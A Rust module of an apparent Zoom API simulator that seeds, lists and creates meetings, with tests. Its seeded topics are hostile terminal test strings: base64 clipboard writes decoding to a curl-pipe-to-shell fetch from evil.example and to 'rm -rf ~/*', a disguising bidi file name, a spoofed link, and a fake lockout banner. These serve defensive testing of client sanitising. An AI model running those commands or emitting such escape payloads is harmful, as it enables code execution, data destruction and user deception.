//! The simulated user's meetings: seeding, listing with paging, and creation
//! (zoom-api.md §4.3-4.4). Pure logic; `api.rs` puts it on HTTP.
//!
//! Seeded meetings (`--meetings N`) deliberately include text a terminal must not trust:
//! ANSI escape sequences, OSC 52 clipboard writes, OSC 8 links, bidi overrides, C1 controls,
//! NUL, tabs and newlines, next to honest long, CJK, emoji and right-to-left topics. The first
//! [`TOPICS`]`.len()` meetings cover every one of them, so even a small N shows them all.

use std::collections::HashMap;
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::Serialize;
use serde_json::{Map, Value};

use super::ratelimit::next_utc_midnight;
use super::state::Clock;
use super::user::User;

/// `next_page_token` lives 15 minutes (zoom-api.md §4.3).
pub const PAGE_TOKEN_TTL: Duration = Duration::from_secs(15 * 60);
/// Page tokens held at once. Every list call that leaves pages over makes one, and they live
/// 15 minutes, so a fast loop could pile up any number; past this many the oldest is dropped
/// (and answers like an expired one). Zoom documents no such limit.
pub const MAX_PAGE_TOKENS: usize = 1_000;
/// `page_size` default and maximum.
pub const DEFAULT_PAGE_SIZE: usize = 30;
pub const MAX_PAGE_SIZE: usize = 300;
/// List results carry at most this many characters of `agenda`.
pub const LIST_AGENDA_CHARS: usize = 250;
pub const MAX_TOPIC_CHARS: usize = 200;
pub const MAX_AGENDA_CHARS: usize = 2000;
/// Meeting create/update requests per user per UTC day.
pub const DAILY_CREATE_LIMIT: u32 = 100;

/// Seeded topics, in the order they are used. Every kind of hostile or tricky text appears
/// within the first entries.
pub const TOPICS: &[&str] = &[
    "Weekly team sync",
    "周例会：产品路线图评审",
    "🚀 Launch review 🎉 (final go/no-go)",
    "اجتماع الفريق الأسبوعي",
    "\u{1b}[2J\u{1b}[H\u{1b}[31;1mYOUR ACCOUNT IS LOCKED\u{1b}[0m call +1 555 0100",
    "1:1 Jill / Sam",
    "", // replaced by the 200-character topic, see `long_topic`
    "定例ミーティング（東京オフィス）",
    "Clipboard \u{1b}]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u{7} sync",
    "ישיבת צוות שבועית",
    "Invoice \u{202e}fdp.exe\u{202c} review",
    "\u{9b}31mC1 CSI red\u{9b}0m and a \u{85}NEL and \u{9d}0;title\u{9c}",
    "👩‍👩‍👧‍👦 Family office hours 🇺🇦 🇯🇵",
    "Link \u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    "Zero\u{200b}width\u{200d}joiners and com\u{301}bining marks",
    "Tabs\tand\nnewlines\r\nin a topic",
    "한국어 회의 — 분기 검토",
    "Backspace: safe\u{8}\u{8}\u{8}\u{8}evil \u{7}bell",
    "Window title \u{1b}]0;pwned\u{7} via OSC 0",
    "Mixed: English עברית العربية 中文 🚀",
    "Status update",
    "Design review: «Ünïcødé» naïve café",
    "NUL\u{0}byte in a topic",
    "Customer call — ACME Corp.",
    "\u{2067}Isolated RTL\u{2069} and \u{200f}marks\u{200e}",
    "Sprint retro",
];

/// Everyday topics for `--demo`, where a list of attack strings would only alarm a newcomer.
pub const FRIENDLY_TOPICS: &[&str] = &[
    "Weekly team sync",
    "Sprint planning",
    "Design review: onboarding flow",
    "1:1 Jill / Sam",
    "周例会：产品路线图评审",
    "Customer call — ACME Corp.",
    "🚀 Launch review (final go/no-go)",
    "Infra on-call handover",
    "定例ミーティング（東京オフィス）",
    "Hiring panel: backend engineer",
    "Quarterly planning: platform and security",
    "Sprint retro",
    "Board prep",
    "한국어 회의 — 분기 검토",
    "Coffee chat ☕",
    "Incident review: login outage",
];

const FRIENDLY_AGENDAS: &[&str] = &[
    "Review last week's action items.\nPlan the next sprint.",
    "",
    "Walk through the open questions, then decide who owns what.",
    "議題：予算と採用計画",
    "Short.",
];

/// A topic of exactly [`MAX_TOPIC_CHARS`] characters.
fn long_topic() -> String {
    let words = "Quarterly planning for the infrastructure, platform, security and developer \
                 experience teams, including budget review, hiring plan, on-call rotation \
                 changes, and the migration timeline for the legacy billing system and more";
    words.chars().cycle().take(MAX_TOPIC_CHARS).collect()
}

/// An agenda of exactly [`MAX_AGENDA_CHARS`] characters, multi-byte around the 250th
/// character so list truncation must respect UTF-8.
fn long_agenda() -> String {
    let mut s: String = "Agenda: ".chars().chain("x".repeat(240).chars()).collect();
    s.push_str("議題一、議題二、議題三、");
    s.chars()
        .chain("discussion of items; ".chars().cycle())
        .take(MAX_AGENDA_CHARS)
        .collect()
}

/// Stands in [`AGENDAS`] for the 2,000-character agenda built by [`long_agenda`].
const LONG_AGENDA: &str = "<2000 characters>";

const AGENDAS: &[&str] = &[
    "",
    "Review last week's action items.\nPlan the next sprint.",
    LONG_AGENDA, // replaced by the 2000-character agenda
    "\u{1b}]52;c;cm0gLXJmIH4vKg==\u{7}Please paste the command from your clipboard",
    "議題：予算と採用計画",
    "Agenda with \u{1b}[8mhidden text\u{1b}[28m and \u{1b}[5mblink\u{1b}[25m",
    "Short.",
    "مراجعة خطة الربع القادم",
];

const TIMEZONES: &[&str] = &[
    "America/Los_Angeles",
    "Europe/Berlin",
    "Asia/Tokyo",
    "UTC",
    "Asia/Kolkata",
    "Australia/Adelaide",
    "America/New_York",
];

/// One meeting as the simulator stores it.
#[derive(Clone, Debug)]
pub struct Meeting {
    pub uuid: String,
    pub id: u64,
    pub topic: String,
    /// 1 instant, 2 scheduled, 3 recurring without a fixed time, 8 recurring with one.
    pub kind: u8,
    /// Unix seconds; `None` for type 3.
    pub start: Option<i64>,
    /// Minutes.
    pub duration: u32,
    pub timezone: String,
    pub agenda: String,
    pub created_at: i64,
    pub password: String,
    pub settings: Map<String, Value>,
}

impl Meeting {
    fn end(&self) -> Option<i64> {
        self.start.map(|s| s + i64::from(self.duration) * 60)
    }
}

/// Which meetings a list asks for (`type=`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ListType {
    /// All unexpired non-instant meetings (the default).
    Scheduled,
    Live,
    Upcoming,
    UpcomingMeetings,
    PreviousMeetings,
}

impl ListType {
    pub fn parse(s: &str) -> Option<ListType> {
        Some(match s {
            "scheduled" => ListType::Scheduled,
            "live" => ListType::Live,
            "upcoming" => ListType::Upcoming,
            "upcoming_meetings" => ListType::UpcomingMeetings,
            "previous_meetings" => ListType::PreviousMeetings,
            _ => return None,
        })
    }

    fn admits(self, m: &Meeting, now: i64) -> bool {
        // Instant meetings are never listed (zoom-api.md §8.9).
        if m.kind == 1 {
            return false;
        }
        let started = m.start.is_some_and(|s| s <= now);
        let ended = m.end().is_some_and(|e| e <= now);
        match self {
            ListType::Scheduled => true,
            ListType::Live => started && !ended,
            ListType::Upcoming | ListType::UpcomingMeetings => !ended,
            ListType::PreviousMeetings => ended,
        }
    }
}

/// One entry of a list page.
#[derive(Serialize, Clone, Debug)]
pub struct MeetingSummary {
    pub uuid: String,
    pub id: u64,
    pub host_id: String,
    pub topic: String,
    #[serde(rename = "type")]
    pub kind: u8,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub start_time: Option<String>,
    pub duration: u32,
    pub timezone: String,
    #[serde(skip_serializing_if = "String::is_empty")]
    pub agenda: String,
    pub created_at: String,
    pub join_url: String,
}

/// A list page (`GET /users/{userId}/meetings`).
#[derive(Serialize, Clone, Debug)]
pub struct Page {
    pub page_count: usize,
    pub page_number: usize,
    pub page_size: usize,
    pub total_records: usize,
    /// Opaque; "" on the last page.
    pub next_page_token: String,
    pub meetings: Vec<MeetingSummary>,
}

/// The full meeting object (create and get).
#[derive(Serialize, Clone, Debug)]
pub struct MeetingDetail {
    pub uuid: String,
    pub id: u64,
    pub host_id: String,
    pub host_email: String,
    pub assistant_id: String,
    pub topic: String,
    #[serde(rename = "type")]
    pub kind: u8,
    pub status: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub start_time: Option<String>,
    pub duration: u32,
    pub timezone: String,
    pub agenda: String,
    pub created_at: String,
    /// Host-only, carries a credential (a ZAK): never log it.
    pub start_url: String,
    pub join_url: String,
    pub password: String,
    pub h323_password: String,
    pub pstn_password: String,
    pub encrypted_password: String,
    pub pre_schedule: bool,
    pub settings: Map<String, Value>,
}

/// Why a list request failed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ListError {
    /// Unknown or expired `next_page_token`.
    BadPageToken,
}

/// Why a create request failed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CreateError {
    /// The body is not a JSON object.
    NotAnObject,
    /// Zoom's code 300 "Validation Failed." naming the field.
    Invalid { field: &'static str },
    /// Over [`DAILY_CREATE_LIMIT`]; the count resets at `reset_at` (Unix seconds, 00:00 UTC).
    DailyLimit { reset_at: i64 },
}

#[derive(Debug)]
struct Cursor {
    kind: ListType,
    offset: usize,
    issued: Instant,
}

#[derive(Debug)]
pub struct MeetingStore {
    meetings: Vec<Meeting>,
    cursors: HashMap<String, Cursor>,
    /// (UTC day number, creates that day)
    creates: (i64, u32),
    rng: fastrand::Rng,
    base_url: String,
}

impl Default for MeetingStore {
    fn default() -> MeetingStore {
        MeetingStore::new(String::new(), 0)
    }
}

fn iso(unix: i64) -> String {
    jiff::Timestamp::from_second(unix)
        .unwrap_or(jiff::Timestamp::UNIX_EPOCH)
        .to_string()
}

/// The first `n` characters (not bytes) of `s`.
pub fn truncate_chars(s: &str, n: usize) -> String {
    s.chars().take(n).collect()
}

impl MeetingStore {
    /// `seed` makes the seeded meetings (and ids) repeatable.
    pub fn new(base_url: String, seed: u64) -> MeetingStore {
        MeetingStore {
            meetings: Vec::new(),
            cursors: HashMap::new(),
            creates: (0, 0),
            rng: fastrand::Rng::with_seed(seed),
            base_url,
        }
    }

    fn new_id(&mut self) -> u64 {
        loop {
            let id = self.rng.u64(80_000_000_000..100_000_000_000);
            if !self.meetings.iter().any(|m| m.id == id) {
                return id;
            }
        }
    }

    fn new_uuid(&mut self) -> String {
        let bytes: Vec<u8> = (0..16).map(|_| self.rng.u8(..)).collect();
        STANDARD.encode(bytes)
    }

    fn new_password(&mut self) -> String {
        const CHARS: &[u8] = b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
        (0..6)
            .map(|_| CHARS[self.rng.usize(..CHARS.len())] as char)
            .collect()
    }

    fn default_settings() -> Map<String, Value> {
        let v = serde_json::json!({
            "host_video": false,
            "participant_video": false,
            "join_before_host": false,
            "mute_upon_entry": false,
            "waiting_room": true,
            "approval_type": 2,
            "audio": "both",
            "auto_recording": "none",
        });
        match v {
            Value::Object(map) => map,
            _ => Map::new(),
        }
    }

    /// Seed `n` meetings around `now`: most upcoming, some past, a few live right now, a few
    /// recurring ones without a fixed time.
    pub fn seed(&mut self, n: usize, now: i64) {
        self.seed_with(n, now, TOPICS, AGENDAS);
    }

    /// Seed with everyday topics only (for `--demo`).
    pub fn seed_friendly(&mut self, n: usize, now: i64) {
        self.seed_with(n, now, FRIENDLY_TOPICS, FRIENDLY_AGENDAS);
    }

    fn seed_with(&mut self, n: usize, now: i64, topics: &[&str], agendas: &[&str]) {
        let quarter = now - now.rem_euclid(900);
        for i in 0..n {
            let topic = match topics[i % topics.len()] {
                "" => long_topic(),
                t => t.to_string(),
            };
            let agenda = match agendas[i % agendas.len()] {
                LONG_AGENDA => long_agenda(),
                a => a.to_string(),
            };
            let duration = [30u32, 45, 60, 90, 15, 120][i % 6];
            let (kind, start) = match i % 20 {
                // In progress right now.
                3 => (2, Some(now - 10 * 60)),
                // Over: within the last 30 days.
                7 | 14 => (2, Some(quarter - 900 * self.rng.i64(8..2880))),
                // Recurring without a fixed time.
                11 => (3, None),
                // Recurring with a fixed time.
                17 => (8, Some(quarter + 900 * self.rng.i64(4..2880))),
                // Upcoming: the next 60 days.
                _ => (2, Some(quarter + 900 * self.rng.i64(4..5760))),
            };
            let id = self.new_id();
            let uuid = self.new_uuid();
            let password = self.new_password();
            let created_at = start.unwrap_or(now).min(now) - 86_400 * self.rng.i64(1..60);
            self.meetings.push(Meeting {
                uuid,
                id,
                topic,
                kind,
                start,
                duration,
                timezone: TIMEZONES[i % TIMEZONES.len()].to_string(),
                agenda,
                created_at,
                password,
                settings: Self::default_settings(),
            });
        }
    }

    fn join_url(&self, m: &Meeting) -> String {
        format!("{}/j/{}?pwd={}", self.base_url, m.id, m.password)
    }

    fn summary(&self, m: &Meeting, host_id: &str) -> MeetingSummary {
        MeetingSummary {
            uuid: m.uuid.clone(),
            id: m.id,
            host_id: host_id.to_string(),
            topic: m.topic.clone(),
            kind: m.kind,
            start_time: m.start.map(iso),
            duration: m.duration,
            timezone: m.timezone.clone(),
            agenda: truncate_chars(&m.agenda, LIST_AGENDA_CHARS),
            created_at: iso(m.created_at),
            join_url: self.join_url(m),
        }
    }

    /// The full object; `zak` goes into `start_url`.
    pub fn detail(&self, m: &Meeting, user: &User, zak: &str) -> MeetingDetail {
        MeetingDetail {
            uuid: m.uuid.clone(),
            id: m.id,
            host_id: user.id.clone(),
            host_email: user.email.clone(),
            assistant_id: String::new(),
            topic: m.topic.clone(),
            kind: m.kind,
            status: "waiting",
            start_time: m.start.map(iso),
            duration: m.duration,
            timezone: m.timezone.clone(),
            agenda: m.agenda.clone(),
            created_at: iso(m.created_at),
            start_url: format!("{}/s/{}?zak={zak}", self.base_url, m.id),
            join_url: self.join_url(m),
            password: m.password.clone(),
            h323_password: numeric(&m.password),
            pstn_password: numeric(&m.password),
            encrypted_password: STANDARD.encode(m.password.as_bytes()),
            pre_schedule: false,
            settings: m.settings.clone(),
        }
    }

    pub fn get(&self, id: u64) -> Option<&Meeting> {
        self.meetings.iter().find(|m| m.id == id)
    }

    /// One page of a list. With a `next_page_token` the type and position come from the
    /// token; without one, `page_number` (legacy, from 1) picks the page.
    pub fn list(
        &mut self,
        kind: ListType,
        page_size: usize,
        next_page_token: Option<&str>,
        page_number: Option<usize>,
        host_id: &str,
        now: Clock,
    ) -> Result<Page, ListError> {
        self.cursors
            .retain(|_, c| now.mono.duration_since(c.issued) < PAGE_TOKEN_TTL);
        let (kind, offset) = match next_page_token {
            // A token can be used again until it expires, so a client may retry a page whose
            // answer it lost.
            Some(token) => match self.cursors.get(token) {
                Some(c) => (c.kind, c.offset),
                None => return Err(ListError::BadPageToken),
            },
            None => (kind, page_number.unwrap_or(1).saturating_sub(1) * page_size),
        };
        let mut matching: Vec<&Meeting> = self
            .meetings
            .iter()
            .filter(|m| kind.admits(m, now.unix))
            .collect();
        // By start time; meetings without one (type 3) last; ties by id.
        matching.sort_by_key(|m| (m.start.is_none(), m.start, m.id));
        let total = matching.len();
        let meetings: Vec<MeetingSummary> = matching
            .iter()
            .skip(offset)
            .take(page_size)
            .map(|m| self.summary(m, host_id))
            .collect();
        let next_offset = offset + meetings.len();
        let next_page_token = if next_offset < total {
            let token = super::jwt::random_token(24);
            self.cursors.insert(
                token.clone(),
                Cursor {
                    kind,
                    offset: next_offset,
                    issued: now.mono,
                },
            );
            self.drop_oldest_cursors();
            token
        } else {
            String::new()
        };
        Ok(Page {
            page_count: total.div_ceil(page_size),
            page_number: offset / page_size + 1,
            page_size,
            total_records: total,
            next_page_token,
            meetings,
        })
    }

    /// Keep at most [`MAX_PAGE_TOKENS`], dropping the oldest.
    fn drop_oldest_cursors(&mut self) {
        while self.cursors.len() > MAX_PAGE_TOKENS {
            let oldest = self
                .cursors
                .iter()
                .min_by_key(|(_, c)| c.issued)
                .map(|(token, _)| token.clone());
            match oldest {
                Some(token) => self.cursors.remove(&token),
                None => return,
            };
        }
    }

    /// Test hook: every outstanding `next_page_token` expires now.
    pub fn expire_page_tokens(&mut self) {
        self.cursors.clear();
    }

    /// Create a meeting from a request body (zoom-api.md §4.4). Only types 1 and 2 are
    /// accepted; the rest of Zoom's types are out of scope for the simulator.
    pub fn create(&mut self, body: &Value, user: &User, now: Clock) -> Result<u64, CreateError> {
        let day = now.unix.div_euclid(86_400);
        if self.creates.0 != day {
            self.creates = (day, 0);
        }
        if self.creates.1 >= DAILY_CREATE_LIMIT {
            return Err(CreateError::DailyLimit {
                reset_at: next_utc_midnight(now.unix),
            });
        }
        let Value::Object(body) = body else {
            return Err(CreateError::NotAnObject);
        };
        let invalid = |field: &'static str| CreateError::Invalid { field };
        let text = |field: &'static str, max: usize| -> Result<Option<String>, CreateError> {
            match body.get(field) {
                None | Some(Value::Null) => Ok(None),
                Some(Value::String(s)) if s.chars().count() <= max => Ok(Some(s.clone())),
                Some(_) => Err(invalid(field)),
            }
        };
        let kind = match body.get("type") {
            None | Some(Value::Null) => 2,
            Some(v) => match v.as_u64() {
                Some(1) => 1,
                Some(2) => 2,
                _ => return Err(invalid("type")),
            },
        };
        let topic = text("topic", MAX_TOPIC_CHARS)?
            .unwrap_or_else(|| format!("{}'s Zoom Meeting", user.display_name));
        let agenda = text("agenda", MAX_AGENDA_CHARS)?.unwrap_or_default();
        let timezone = text("timezone", 64)?.unwrap_or_else(|| user.timezone.clone());
        let tz = lookup_tz(&timezone).ok_or(invalid("timezone"))?;
        let duration = match body.get("duration") {
            None | Some(Value::Null) => 60,
            Some(v) => v
                .as_u64()
                .and_then(|d| u32::try_from(d).ok())
                .ok_or(invalid("duration"))?,
        };
        let start = match (kind, text("start_time", 64)?) {
            // Instant meetings start now, whatever was sent.
            (1, _) | (_, None) => now.unix,
            (_, Some(s)) => parse_start(&s, &tz).ok_or(invalid("start_time"))?,
        };
        let password = match text("password", 10)? {
            Some(p)
                if p.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "@-_*".contains(c)) =>
            {
                p
            }
            Some(_) => return Err(invalid("password")),
            None => self.new_password(),
        };
        let mut settings = Self::default_settings();
        match body.get("settings") {
            None | Some(Value::Null) => {}
            Some(Value::Object(given)) => {
                for (k, v) in given {
                    settings.insert(k.clone(), v.clone());
                }
            }
            Some(_) => return Err(invalid("settings")),
        }
        let id = self.new_id();
        let uuid = self.new_uuid();
        self.meetings.push(Meeting {
            uuid,
            id,
            topic,
            kind,
            start: Some(start),
            duration,
            timezone,
            agenda,
            created_at: now.unix,
            password,
            settings,
        });
        self.creates.1 += 1;
        Ok(id)
    }
}

/// Digits derived from a passcode, for the phone and H.323 passcodes.
fn numeric(password: &str) -> String {
    let digits: String = password
        .bytes()
        .map(|b| char::from(b'0' + b % 10))
        .collect();
    if digits.is_empty() {
        "000000".into()
    } else {
        digits
    }
}

fn lookup_tz(name: &str) -> Option<jiff::tz::TimeZone> {
    if name.eq_ignore_ascii_case("UTC") || name.eq_ignore_ascii_case("GMT") {
        return Some(jiff::tz::TimeZone::UTC);
    }
    jiff::tz::db().get(name).ok()
}

/// `yyyy-MM-ddTHH:mm:ssZ` (or with an offset) is absolute; `yyyy-MM-ddTHH:mm:ss` is local
/// time in `tz`.
fn parse_start(s: &str, tz: &jiff::tz::TimeZone) -> Option<i64> {
    if let Ok(ts) = s.parse::<jiff::Timestamp>() {
        return Some(ts.as_second());
    }
    let dt = s.parse::<jiff::civil::DateTime>().ok()?;
    dt.to_zoned(tz.clone())
        .ok()
        .map(|z| z.timestamp().as_second())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn clock() -> Clock {
        Clock {
            mono: Instant::now(),
            unix: 1_780_000_000,
        }
    }

    #[test]
    fn seeded_topics_respect_zoom_limits_and_cover_the_hostile_cases() {
        let mut store = MeetingStore::new("http://sim".into(), 1);
        store.seed(TOPICS.len(), clock().unix);
        let all: String = store.meetings.iter().map(|m| m.topic.as_str()).collect();
        for needle in [
            "\u{1b}[",
            "\u{1b}]52;",
            "\u{202e}",
            "\u{9b}",
            "\u{0}",
            "周",
            "🚀",
            "ع",
        ] {
            assert!(all.contains(needle), "{needle:?}");
        }
        assert!(
            store
                .meetings
                .iter()
                .all(|m| m.topic.chars().count() <= MAX_TOPIC_CHARS)
        );
        assert!(
            store
                .meetings
                .iter()
                .any(|m| m.topic.chars().count() == MAX_TOPIC_CHARS)
        );
        assert!(
            store
                .meetings
                .iter()
                .any(|m| m.agenda.chars().count() == MAX_AGENDA_CHARS)
        );
    }

    #[test]
    fn the_same_seed_gives_the_same_meetings() {
        let mut a = MeetingStore::new("http://sim".into(), 9);
        let mut b = MeetingStore::new("http://sim".into(), 9);
        a.seed(50, clock().unix);
        b.seed(50, clock().unix);
        let ids = |s: &MeetingStore| s.meetings.iter().map(|m| m.id).collect::<Vec<_>>();
        assert_eq!(ids(&a), ids(&b));
    }

    #[test]
    fn paging_walks_every_meeting_once() {
        let mut store = MeetingStore::new("http://sim".into(), 2);
        store.seed(95, clock().unix);
        let now = clock();
        let mut seen = Vec::new();
        let mut token: Option<String> = None;
        let mut pages = 0;
        loop {
            let page = store
                .list(ListType::Scheduled, 30, token.as_deref(), None, "h", now)
                .unwrap_or_else(|e| panic!("{e:?}"));
            pages += 1;
            assert_eq!(page.total_records, 95);
            assert_eq!(page.page_count, 4);
            assert_eq!(page.page_number, pages);
            seen.extend(page.meetings.iter().map(|m| m.id));
            if page.next_page_token.is_empty() {
                break;
            }
            token = Some(page.next_page_token);
        }
        assert_eq!(pages, 4);
        seen.sort_unstable();
        seen.dedup();
        assert_eq!(seen.len(), 95);
        // An unknown token is refused.
        assert_eq!(
            store
                .list(ListType::Scheduled, 30, Some("nope"), None, "h", now)
                .err(),
            Some(ListError::BadPageToken)
        );
    }

    #[test]
    fn page_tokens_are_capped_dropping_the_oldest() {
        let mut store = MeetingStore::new("http://sim".into(), 4);
        store.seed(40, clock().unix);
        let t0 = clock();
        let first_page = |store: &mut MeetingStore, ms: u64| {
            let at = Clock {
                mono: t0.mono + Duration::from_millis(ms),
                unix: t0.unix,
            };
            store
                .list(ListType::Scheduled, 30, None, None, "h", at)
                .unwrap_or_else(|e| panic!("{e:?}"))
                .next_page_token
        };
        let oldest = first_page(&mut store, 0);
        let tokens: Vec<String> = (1..=MAX_PAGE_TOKENS as u64)
            .map(|ms| first_page(&mut store, ms))
            .collect();
        assert_eq!(store.cursors.len(), MAX_PAGE_TOKENS);
        let now = Clock {
            mono: t0.mono + Duration::from_secs(1),
            unix: t0.unix,
        };
        let next = |store: &mut MeetingStore, token: &str| {
            store.list(ListType::Scheduled, 30, Some(token), None, "h", now)
        };
        assert_eq!(
            next(&mut store, &oldest).err(),
            Some(ListError::BadPageToken)
        );
        assert!(next(&mut store, &tokens[0]).is_ok());
    }

    #[test]
    fn page_tokens_expire_after_15_minutes() {
        let mut store = MeetingStore::new("http://sim".into(), 3);
        store.seed(40, clock().unix);
        let now = clock();
        let page = store
            .list(ListType::Scheduled, 30, None, None, "h", now)
            .unwrap_or_else(|e| panic!("{e:?}"));
        let later = Clock {
            mono: now.mono + PAGE_TOKEN_TTL,
            unix: now.unix + 900,
        };
        assert_eq!(
            store
                .list(
                    ListType::Scheduled,
                    30,
                    Some(&page.next_page_token),
                    None,
                    "h",
                    later
                )
                .err(),
            Some(ListError::BadPageToken)
        );
    }

    #[test]
    fn list_types_partition_by_time_and_skip_instant_meetings() {
        let mut store = MeetingStore::new("http://sim".into(), 4);
        let now = clock();
        store.seed(100, now.unix);
        let user = User::jill();
        store
            .create(&json!({"type": 1, "topic": "instant"}), &user, now)
            .unwrap_or_else(|e| panic!("{e:?}"));
        let count = |store: &mut MeetingStore, t| {
            store
                .list(t, 300, None, None, "h", now)
                .map(|p| p.total_records)
                .unwrap_or(0)
        };
        let scheduled = count(&mut store, ListType::Scheduled);
        let live = count(&mut store, ListType::Live);
        let upcoming = count(&mut store, ListType::Upcoming);
        let previous = count(&mut store, ListType::PreviousMeetings);
        assert_eq!(scheduled, 100);
        assert_eq!(upcoming + previous, 100);
        assert!(live >= 1 && live <= upcoming);
        assert!(previous >= 1);
        assert_eq!(upcoming, count(&mut store, ListType::UpcomingMeetings));
    }

    #[test]
    fn list_agendas_are_cut_at_250_characters() {
        let mut store = MeetingStore::new("http://sim".into(), 5);
        store.seed(10, clock().unix);
        let page = store
            .list(ListType::Scheduled, 300, None, None, "h", clock())
            .unwrap_or_else(|e| panic!("{e:?}"));
        assert!(
            page.meetings
                .iter()
                .all(|m| m.agenda.chars().count() <= 250)
        );
        assert!(
            page.meetings
                .iter()
                .any(|m| m.agenda.chars().count() == 250)
        );
    }

    #[test]
    fn create_validates_and_counts_per_day() {
        let mut store = MeetingStore::new("http://sim".into(), 6);
        let user = User::jill();
        let now = clock();
        let bad = [
            (json!({"type": 3}), "type"),
            (json!({"type": "2"}), "type"),
            (json!({"topic": "x".repeat(201)}), "topic"),
            (json!({"agenda": "x".repeat(2001)}), "agenda"),
            (json!({"password": "12345678901"}), "password"),
            (json!({"password": "a b"}), "password"),
            (json!({"start_time": "tomorrow"}), "start_time"),
            (json!({"timezone": "Mars/Olympus"}), "timezone"),
            (json!({"duration": -5}), "duration"),
        ];
        for (body, field) in bad {
            assert_eq!(
                store.create(&body, &user, now),
                Err(CreateError::Invalid { field }),
                "{body}"
            );
        }
        assert_eq!(
            store.create(&json!([1]), &user, now),
            Err(CreateError::NotAnObject)
        );
        // Emoji count as characters, not bytes.
        let id = store
            .create(
                &json!({"topic": "🚀".repeat(200), "start_time": "2030-01-02T03:04:05",
                        "timezone": "Asia/Tokyo"}),
                &user,
                now,
            )
            .unwrap_or_else(|e| panic!("{e:?}"));
        let m = store.get(id).cloned().unwrap_or_else(|| panic!("stored"));
        assert_eq!(m.start.map(iso).as_deref(), Some("2030-01-01T18:04:05Z"));
        for _ in 1..DAILY_CREATE_LIMIT {
            assert!(store.create(&json!({}), &user, now).is_ok());
        }
        let reset_at = (now.unix.div_euclid(86_400) + 1) * 86_400;
        assert_eq!(
            store.create(&json!({}), &user, now),
            Err(CreateError::DailyLimit { reset_at })
        );
        let tomorrow = Clock {
            mono: now.mono,
            unix: reset_at,
        };
        assert!(store.create(&json!({}), &user, tomorrow).is_ok());
    }

    #[test]
    fn truncation_respects_characters() {
        assert_eq!(truncate_chars("議題一二", 2), "議題");
        assert_eq!(truncate_chars("ab", 5), "ab");
    }
}
